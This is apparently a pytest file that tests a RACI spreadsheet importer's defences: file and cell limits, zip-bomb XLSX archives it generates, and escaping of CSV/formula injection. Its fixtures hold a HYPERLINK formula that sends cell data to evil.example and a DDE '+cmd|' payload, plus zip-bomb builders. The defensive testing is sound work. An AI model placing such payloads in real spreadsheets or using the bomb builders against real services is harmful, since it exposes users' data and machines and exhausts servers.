"""Hostile spreadsheets: files over the limits are refused while they are read, zip bombs
before they are inflated, errors are listed up to 500 and counted beyond, and exported
text never runs as a formula in a spreadsheet.

Hostile files are generated here (small on disk, huge once inflated) rather than kept in
the repository; refusal is proved fast by counting what was inflated or read, not by time.
"""

from __future__ import annotations

import io
import itertools
import struct
import zipfile

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from core import sheets
from raci import tabular
from raci.limits import LIMITS, MB
from raci.tabular import (
    escape_text,
    export_table,
    parse_csv,
    parse_upload,
    parse_xlsx,
    unescape_text,
    write_csv,
    write_xlsx,
)

SHEET = "xl/worksheets/sheet1.xml"


# ---------------------------------------------------------------- instruments


class CountingDecompressor:
    """Wraps zipfile's decompressor and adds up every byte it inflates."""

    def __init__(self, inner, counter):
        self._inner, self._counter = inner, counter

    def decompress(self, data, max_length=0):
        out = self._inner.decompress(data, max_length)
        self._counter["bytes"] += len(out)
        return out

    def flush(self, *args):
        out = self._inner.flush(*args)
        self._counter["bytes"] += len(out)
        return out

    def __getattr__(self, name):
        return getattr(self._inner, name)


@pytest.fixture
def inflated(monkeypatch):
    """Bytes inflated from any zip archive (ours or openpyxl's reads) during the test."""
    counter = {"bytes": 0}
    original = zipfile._get_decompressor

    def counting(compress_type):
        inner = original(compress_type)
        return CountingDecompressor(inner, counter) if inner is not None else None

    monkeypatch.setattr(zipfile, "_get_decompressor", counting)
    return counter


def counted(records, counter):
    for record in records:
        counter["read"] += 1
        yield record


def workbook_bytes(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def with_sheet_padding(data: bytes, padding_bytes: int, *, member: str = SHEET) -> bytes:
    """The workbook with `padding_bytes` of XML whitespace appended to one member: still a
    valid sheet, a few kilobytes on disk, as large as asked once inflated."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            if info.filename != member:
                target.writestr(info, source.read(info))
                continue
            with target.open(member, "w") as stream:
                stream.write(source.read(info))
                chunk = b" " * MB
                for _ in range(padding_bytes // MB):
                    stream.write(chunk)
    return out.getvalue()


def declaring_size(data: bytes, member: str, size: int) -> bytes:
    """The archive with `member`'s declared unpacked size rewritten to `size` (a lie)."""
    data = bytearray(data)
    name = member.encode()
    for signature, size_offset, name_offset in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        at = data.find(signature)
        while at != -1:
            if data[at + name_offset : at + name_offset + len(name)] == name:
                struct.pack_into("<I", data, at + size_offset, size)
            at = data.find(signature, at + 4)
    return bytes(data)


def matrix_csv(activities: int, roles: int, value: str = "A") -> bytes:
    header = ",".join(["Activity", *(f"R{j}" for j in range(roles))])
    lines = [header, *(",".join([f"Activity {i}", *([value] * roles)]) for i in range(activities))]
    return ("\n".join(lines) + "\n").encode()


# ---------------------------------------------------------------- CSV limits


def test_the_limits_are_the_contract():
    assert (LIMITS.activities, LIMITS.roles, LIMITS.cells) == (2_000, 60, 60_000)
    assert (LIMITS.file_bytes, LIMITS.inflated_bytes, LIMITS.errors_listed) == (10 * MB, 50 * MB, 500)


def test_a_million_row_csv_is_refused_after_reading_two_thousand_activities():
    data = b"Activity,PM\n" + b"".join(b"A%d,A\n" % i for i in range(1_000_000))
    assert len(data) < LIMITS.file_bytes
    table = parse_csv(data)
    assert not table.ok
    first = table.errors[0]
    assert "more than 2,000 activities" in first.message and first.row == 2_002
    assert len(table.activities) == 2_000


def test_reading_stops_at_the_first_activity_past_the_limit():
    lines = itertools.chain([(1, ["Activity", "PM"])], ((n, [f"A{n}", "A"]) for n in range(2, 1_000_000)))
    counter = {"read": 0}
    table = tabular._parse_records(counted(lines, counter))
    assert counter["read"] == 2_002
    assert table.errors[0].row == 2_002


def test_two_thousand_activities_are_accepted():
    table = parse_csv(matrix_csv(2_000, 3, "C"))
    assert table.ok, table.errors[:3]
    assert len(table.activities) == 2_000


def test_sixty_one_roles_are_refused_before_any_row_is_read():
    header = ["Activity", *(f"R{j}" for j in range(61))]
    counter = {"read": 0}
    rows = ((n, [f"A{n}", *(["A"] * 61)]) for n in range(2, 100))
    table = tabular._parse_records(counted(iter([(1, header), *rows]), counter))
    assert counter["read"] == 1
    assert table.errors[0].message == "The header row has 61 role columns; a matrix holds at most 60 roles."
    assert "60 roles" in parse_csv(matrix_csv(3, 61)).errors[0].message
    assert parse_csv(matrix_csv(3, 60)).ok


def test_sixty_thousand_cells_is_the_most_whatever_the_shape():
    assert parse_csv(matrix_csv(1_000, 60, "I")).ok
    table = parse_csv(matrix_csv(1_001, 60, "I"))
    assert not table.ok and len(table.activities) == 1_000
    message = table.errors[0].message
    assert "more than 1,000 activities" in message and "60,000 cells" in message and "60 roles" in message


def test_blank_lines_count_towards_when_reading_stops():
    data = b"Activity,PM\nNaming,A\n" + b",\n" * 500_000
    table = parse_csv(data)
    assert not table.ok and "lines" in table.errors[0].message
    assert table.errors[0].row == LIMITS.activities + LIMITS.blank_lines + 2


def test_a_file_over_ten_megabytes_is_refused_unread():
    data = b"Activity,PM\n" + b"x" * (10 * MB)
    table = parse_upload(data, "big.csv")
    assert [e.message for e in table.errors] == ["The file is larger than 10 MB, the most an import takes."]
    assert table.activities == [] and table.columns == []


# ---------------------------------------------------------------- errors: 500 listed, all counted


def test_errors_beyond_five_hundred_are_counted_not_listed():
    table = parse_csv(matrix_csv(1_000, 60, "Q"))
    assert len(table.errors) == 500 and table.error_count == 60_000
    assert not table.ok
    assert (table.errors[0].row, table.errors[0].column, table.errors[0].value) == (2, "R0", "Q")


def test_a_refusal_is_listed_first_even_after_five_hundred_errors():
    table = parse_csv(matrix_csv(2_001, 1, "Q"))
    assert len(table.errors) == 500 and table.error_count == 2_001
    assert "more than 2,000 activities" in table.errors[0].message


# ---------------------------------------------------------------- XLSX: zip bombs


def test_an_xlsx_declaring_more_than_fifty_megabytes_is_refused_without_inflating(inflated):
    bomb = with_sheet_padding(workbook_bytes([["Activity", "PM"], ["Naming", "A"]]), 60 * MB)
    assert len(bomb) < 1 * MB
    inflated["bytes"] = 0
    table = parse_upload(bomb, "bomb.xlsx")
    assert len(table.errors) == 1 and "50 MB once unpacked" in table.errors[0].message
    assert inflated["bytes"] == 0


def test_the_measured_ratio_of_a_2_8_gigabyte_sheet_is_refused_without_inflating(inflated):
    # What was measured: under 10 MB on disk, 2.8 GB once inflated. Declaring that size is
    # enough to show it is refused from the archive's directory alone.
    bomb = declaring_size(with_sheet_padding(workbook_bytes([["Activity"], ["x"]]), 2 * MB), SHEET, 2_800 * MB)
    inflated["bytes"] = 0
    table = parse_xlsx(bomb)
    assert "once unpacked" in table.errors[0].message
    assert inflated["bytes"] == 0


def test_a_member_compressed_too_many_times_is_refused_unread(inflated):
    bomb = with_sheet_padding(workbook_bytes([["Activity", "PM"], ["Naming", "A"]]), 20 * MB)
    inflated["bytes"] = 0
    table = parse_xlsx(bomb)
    assert "compressed more than 200 times" in table.errors[0].message
    assert inflated["bytes"] == 0


def test_a_member_that_lies_about_its_size_is_refused_after_inflating_what_it_declared(inflated):
    honest = with_sheet_padding(workbook_bytes([["Activity", "PM"], ["Naming", "A"]]), 60 * MB)
    liar = declaring_size(honest, SHEET, 100_000)
    assert zipfile.ZipFile(io.BytesIO(liar)).getinfo(SHEET).file_size == 100_000
    inflated["bytes"] = 0
    table = parse_xlsx(liar)
    assert not table.ok and "not a readable XLSX" in table.errors[0].message
    # A few kilobytes past the declared size, nowhere near the 60 MB inside.
    assert inflated["bytes"] < 1 * MB


def test_the_largest_matrix_passes_the_archive_checks_and_reads():
    table = export_table(
        role_headers=[f"R{j}" for j in range(60)],
        rows=[(f"Activity {i}", "build", "Why " * 10, ["A", *(["C"] * 59)]) for i in range(1_000)],
    )
    data = write_xlsx(table)
    sheets.check_archive(data, LIMITS.reader_bounds())  # refuses by raising
    back = parse_xlsx(data)
    assert back.ok and len(back.activities) == 1_000 and len(back.columns) == 60


def test_an_xlsx_with_a_far_away_cell_stops_reading_at_the_line_limit(monkeypatch):
    workbook = Workbook()
    workbook.active.append(["Activity", "PM"])
    workbook.active.append(["Naming", "A"])
    workbook.active.cell(row=1_000_000, column=1, value="Far away")
    buffer = io.BytesIO()
    workbook.save(buffer)
    counter = {"read": 0}
    original = tabular._parse_records
    monkeypatch.setattr(tabular, "_parse_records", lambda records, limits: original(counted(records, counter), limits))
    table = parse_xlsx(buffer.getvalue())
    assert not table.ok and "lines" in table.errors[0].message
    assert counter["read"] == LIMITS.activities + LIMITS.blank_lines + 2


def test_an_xlsx_with_sixty_one_roles_is_refused():
    table = parse_xlsx(workbook_bytes([["Activity", *(f"R{j}" for j in range(61))], ["Naming", "A"]]))
    assert "at most 60 roles" in table.errors[0].message


def test_an_xlsx_of_empty_shared_strings_is_refused_before_openpyxl_loads_them(monkeypatch):
    """9.9 million of them held the import worker 64.6 s at 1 GB: openpyxl's read-only
    mode still loads the whole table. Past 250,000 the workbook is refused unopened."""
    import openpyxl

    from tests.core.test_sheets import string_table, with_shared_strings

    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: pytest.fail("the workbook was opened"))
    data = with_shared_strings(
        workbook_bytes([["Activity", "PM"], ["Naming", "A"]]), string_table("<si/>" * 250_001, 0)
    )
    assert len(data) < LIMITS.file_bytes
    table = parse_upload(data, "strings.xlsx")
    assert [e.message for e in table.errors] == [
        "This workbook's shared strings hold more than 250,000 entries; a spreadsheet of this size holds far "
        "fewer, and it was refused unopened."
    ]


# ---------------------------------------------------------------- CSV injection


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "\tTab first",
    "\rCR first",
    "-",
    "'=already quoted",
    "''@twice",
]


def hostile_table():
    return export_table(
        role_headers=["=PM", "+PMM", "-1", "@ops"],
        rows=[
            (name, "launch", description, ["A", "R", "", "C"]) for name, description in zip(HOSTILE, reversed(HOSTILE))
        ],
    )


def test_csv_export_writes_an_apostrophe_before_formula_characters():
    text = write_csv(hostile_table()).decode()
    lines = text.split("\r\n")
    assert lines[0] == "Activity,Phase,Description,'=PM,'+PMM,'-1,'@ops"
    assert lines[1].startswith('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Launch,')
    for value in ("'+cmd|' /C calc'!A0", "'-1+1", "'@SUM(1)", "'\tTab first", "''=already quoted", "'''@twice"):
        assert value in text
    # No text cell starts a formula; letter cells are plain.
    import csv

    for record in csv.reader(io.StringIO(text, newline="")):
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-"
    assert ",A,R,,C" in text


def test_import_removes_the_apostrophe_and_the_round_trip_gives_the_same_names():
    for writer in (write_csv, write_xlsx):
        table = parse_upload(writer(hostile_table()), "hostile")
        assert table.ok, table.errors
        assert [c.header for c in table.columns] == ["=PM", "+PMM", "-1", "@ops"]
        names = [a.name for a in table.activities]
        # Names are trimmed on import, as they are when typed: leading tab and CR go.
        assert names == [h.strip() for h in HOSTILE]
        assert [a.letters for a in table.activities][0] == {0: "A", 1: "R", 3: "C"}


def test_xlsx_export_has_no_formula_cells_for_hostile_text():
    sheet = load_workbook(io.BytesIO(write_xlsx(hostile_table()))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert sheet.cell(row=2, column=1).value == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert sheet.cell(row=1, column=4).value == "'=PM"


def test_a_hand_written_apostrophe_is_removed_only_before_a_formula_character():
    table = parse_csv(b"Activity,Description,'=PM\n'=Sum,'plain\n'-,''\n")
    assert table.ok, table.errors
    assert [c.header for c in table.columns] == ["=PM"]
    assert [(a.name, a.description) for a in table.activities] == [("=Sum", "'plain"), ("-", "''")]


@given(st.text())
def test_escaping_is_undone_exactly(value):
    assert unescape_text(escape_text(value)) == value
    assert not escape_text(value).startswith(tabular.FORMULA_STARTS)


def stored_text(max_size: int):
    """Text as the app stores a name: whitespace runs folded to one space, trimmed, no NUL
    (which makes a file binary)."""
    return (
        st.text(min_size=1, max_size=max_size)
        .map(lambda t: " ".join(t.replace("\x00", "").split()))
        .filter(lambda t: 0 < len(t) <= 200)
    )


@settings(max_examples=100, deadline=None)
@given(
    names=st.lists(stored_text(60), min_size=1, max_size=4, unique_by=str.casefold),
    role=stored_text(20),
    prefix=st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''-", "-1+", "@SUM("]),
)
def test_any_names_come_back_from_csv_and_xlsx(names, role, prefix):
    names = [prefix + name for name in names]
    role = prefix + role
    assume(len({name.casefold() for name in names}) == len(names))
    assume(role.casefold() not in ("activity", "phase", "description"))
    table = export_table(role_headers=[role], rows=[(name, "strategy", name, ["A"]) for name in names])
    back = parse_upload(write_csv(table), "names.csv")
    assert back.ok, back.errors
    assert [c.header for c in back.columns] == [role]
    assert [(a.name, a.description) for a in back.activities] == [(n, n) for n in names]
    data = write_xlsx(table)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # XLSX cannot hold control characters (the export drops them): compare the others.
    if not any(ILLEGAL_CHARACTERS_RE.search(text) for text in [*names, role]):
        back = parse_upload(data, "names.xlsx")
        assert back.ok, back.errors
        assert [c.header for c in back.columns] == [role]
        assert [(a.name, a.description) for a in back.activities] == [(n, n) for n in names]


def test_a_role_named_with_semicolons_does_not_fool_the_delimiter():
    table = export_table(role_headers=["Sales; EMEA; APAC; LATAM; ANZ"], rows=[("Naming", "", "", ["A"])])
    back = parse_csv(write_csv(table))
    assert back.ok and [c.header for c in back.columns] == ["Sales; EMEA; APAC; LATAM; ANZ"]
